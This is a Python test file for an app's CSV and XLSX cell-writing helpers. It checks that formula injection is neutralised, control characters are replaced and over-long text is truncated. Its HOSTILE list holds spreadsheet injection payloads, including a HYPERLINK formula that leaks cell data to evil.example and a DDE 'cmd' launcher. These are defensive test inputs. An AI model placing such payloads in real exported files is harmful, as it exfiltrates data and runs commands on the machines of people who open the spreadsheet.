"""Spreadsheet cells: what a user typed never becomes a live formula, and nothing typed breaks the file."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from app.platform.cells import REPLACEMENT, XLSX_CELL_LIMIT, csv_cell, xlsx_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _written_and_read(values: list) -> list:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Sheet")
    sheet.append(xlsx_row(sheet, values))
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return list(load_workbook(buffer).active.iter_rows())[0]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell_that_a_spreadsheet_would_run_goes_out_behind_an_apostrophe(text):
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_cell(text), csv_cell("plain"), csv_cell(-5), csv_cell(None)])
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["'" + text, "plain", "-5", ""]


def test_xlsx_text_is_always_a_string_cell_never_a_formula():
    cells = _written_and_read([*HOSTILE, 12, 3.5, None, "ordinary"])
    for cell, text in zip(cells, HOSTILE, strict=False):
        assert cell.data_type == "s"
        assert cell.value == text.replace("\r", "\n") or cell.value == text
    assert [c.value for c in cells[len(HOSTILE) :]] == [12, 3.5, None, "ordinary"]
    assert cells[len(HOSTILE)].data_type == "n"


def test_control_characters_and_lone_surrogates_are_replaced_and_the_cell_says_so():
    text = "Рішення\x00 ради\x07 №5\x1b \ud800"
    (cell,) = _written_and_read([text])
    assert cell.value.startswith(f"Рішення{REPLACEMENT} ради{REPLACEMENT} №5{REPLACEMENT} {REPLACEMENT}")
    assert "4" in cell.value[len("Рішення ради №5   ") :]
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_cell(text)])
    buffer.getvalue().encode("utf-8")  # a lone surrogate would raise here


def test_a_text_longer_than_a_cell_holds_is_cut_and_says_how_much():
    total = XLSX_CELL_LIMIT + 5000
    (cell,) = _written_and_read(["я" * total])
    assert len(cell.value) <= XLSX_CELL_LIMIT
    kept = len(cell.value.rstrip().split(" ")[0])
    assert cell.value.startswith("я" * kept) and kept > XLSX_CELL_LIMIT - 200
    assert f" {total - kept} " in cell.value
